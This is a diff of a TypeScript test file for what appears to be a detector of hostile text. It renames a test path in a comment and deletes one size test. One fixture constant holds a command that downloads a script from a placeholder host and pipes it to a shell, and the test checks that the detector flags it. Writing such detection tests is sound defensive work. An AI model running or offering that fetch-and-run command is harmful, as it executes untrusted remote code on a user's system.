@@ -5,7 +5,7 @@ import { assertSound } from "./invariants.js";
 
 const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
 const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
-/** The length of the texts. It exceeds every limit except the size of one program. test/slow/hostile-sizes.test.ts doubles it. */
+/** The length of the texts. It exceeds every limit except the size of one program. test/release/hostile-sizes.test.ts doubles it. */
 const SIZE = 10_000;
 /** Families whose texts are twice as long, so that they exceed the size of one program. */
 const LONGER = [
@@ -27,11 +27,6 @@ describe("hostile text with", { timeout: 120_000 }, () => {
     const detection = detector.detect(text);
     assertSound(text, detection);
     expect(detection.findings[0]?.text).toBe(FLAGGED);
-  });
-
-  it.each([...sizes])("%s has a sound result", async (name, size) => {
-    const text = families[name]?.(size) ?? "";
-    assertSound(text, (await sharedDetector()).detect(text));
   });
 
   it.each(LONGER)("%s of twice the length exceeds the size of one program", async (name) => {
